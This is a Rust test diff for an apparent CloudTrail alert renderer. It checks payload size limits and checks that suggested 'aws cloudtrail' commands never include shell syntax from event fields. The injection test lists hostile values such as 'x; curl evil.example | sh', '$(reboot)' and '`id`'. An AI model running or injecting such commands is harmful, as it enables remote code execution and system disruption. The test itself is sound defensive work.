@@ -29,7 +29,8 @@ fn parts(alert: &RenderedAlert) -> Parts {
         .keys()
         .map(String::as_str)
         .collect();
-    assert_eq!(keys, ["default", "email", "https"]);
+    assert_eq!(keys, ["default", "email", "https", "sms"]);
+    assert!(per_protocol["sms"].as_str().unwrap().len() < 100, "sms is the subject line");
     Parts {
         document: serde_json::from_str(per_protocol["default"].as_str().unwrap())
             .expect("default is JSON"),
@@ -271,4 +272,54 @@ fn worst_case_text_in_every_field_still_fits() {
     );
     assert_valid_subject(&alert.subject);
     parts(&alert);
+}
+
+#[test]
+fn a_crafted_trail_arn_with_a_real_region_still_fits_and_gets_no_link() {
+    let arn = format!(
+        "arn:aws:cloudtrail:us-east-1:111122223333:trail/{}",
+        "\u{1F600}".repeat(2000)
+    );
+    let event = common::edited("update-trail-weakens", |d| {
+        d["requestParameters"]["name"] = json!(arn);
+        d["responseElements"] = json!(null);
+        d["userAgent"] = json!("\u{1F600}".repeat(5000));
+    });
+    let alert = rendered(&event);
+    assert!(alert.message.len() <= SNS_MAX_PAYLOAD_BYTES);
+    let p = parts(&alert);
+    assert_eq!(p.document["links"]["trail"], Value::Null);
+    assert!(p.document["links"]["event"].is_string());
+}
+
+#[test]
+fn pasteable_commands_never_carry_shell_syntax_from_the_event() {
+    for name in [
+        "x; curl evil.example | sh",
+        "$(reboot)",
+        "`id`",
+        "-rf",
+        "a b",
+    ] {
+        let event = common::edited("stop-logging", |d| {
+            d["requestParameters"]["name"] = json!(name)
+        });
+        let p = parts(&rendered(&event));
+        let steps: Vec<String> = p.document["nextSteps"]
+            .as_array()
+            .unwrap()
+            .iter()
+            .map(|s| s.as_str().unwrap().to_string())
+            .collect();
+        let command = steps
+            .iter()
+            .find(|s| s.contains("aws cloudtrail"))
+            .expect("a command step");
+        assert!(command.contains("--name TRAIL"), "{command}");
+        assert!(!command.contains(name), "{command}");
+    }
+    let p = parts(&rendered(&common::sample("stop-logging")));
+    assert!(p.document["nextSteps"][1].as_str().unwrap().ends_with(
+        "start-logging --name arn:aws:cloudtrail:us-east-1:111122223333:trail/management-events --region us-east-1"
+    ));
 }
